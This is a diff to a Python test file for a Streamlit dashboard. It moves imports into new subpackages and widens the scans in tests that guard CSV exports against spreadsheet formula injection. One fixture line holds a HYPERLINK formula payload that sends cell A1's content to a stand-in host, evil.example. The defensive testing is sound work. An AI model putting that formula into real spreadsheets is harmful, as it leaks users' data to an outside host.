@@ -18,10 +18,11 @@ from hypothesis import given, settings, strategies as st
 from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
-from dashboard import audit, auth, csv_safe, storage
+from dashboard.core import audit, csv_safe, storage
+from dashboard.access import auth
 
 ROOT = Path(__file__).resolve().parent.parent
-NAV = ROOT / "dashboard" / "navigation.py"
+NAV = ROOT / "dashboard" / "web" / "navigation.py"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DANGER = ("=", "+", "-", "@", "\t", "\r")
 
@@ -62,7 +63,7 @@ def test_text_cells_are_neutralised_and_numbers_stay_numbers(texts, numbers):
 def test_no_module_writes_csv_around_csv_safe():
     """A wall: every CSV writer in dashboard/ and pages/ goes through csv_safe (to_csv nowhere else)."""
     offenders = []
-    for path in [*(ROOT / "dashboard").glob("*.py"), *(ROOT / "pages").glob("*.py")]:
+    for path in [*(ROOT / "dashboard").rglob("*.py"), *(ROOT / "pages").glob("*.py")]:
         if path.name == "csv_safe.py":
             continue
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
@@ -111,7 +112,7 @@ def test_every_page_download_is_free_of_formulas(poisoned, downloads):
     at = AppTest.from_file(str(NAV), default_timeout=90)
     at.run()
     for page in PAGES_WITH_CSV:
-        at.switch_page(f"../pages/{page}.py").run()
+        at.switch_page(f"../../pages/{page}.py").run()
         assert not at.exception, (page, at.exception)
     expected = {"adds_blocks_daily.csv", "adds_by_weekday_hour.csv", "route_quality.csv", "retention_weekly.csv",
                 "reactions_per_delivery.csv", "segment_sample.csv", "audit_log.csv", "interest_genre_matrix.csv"}
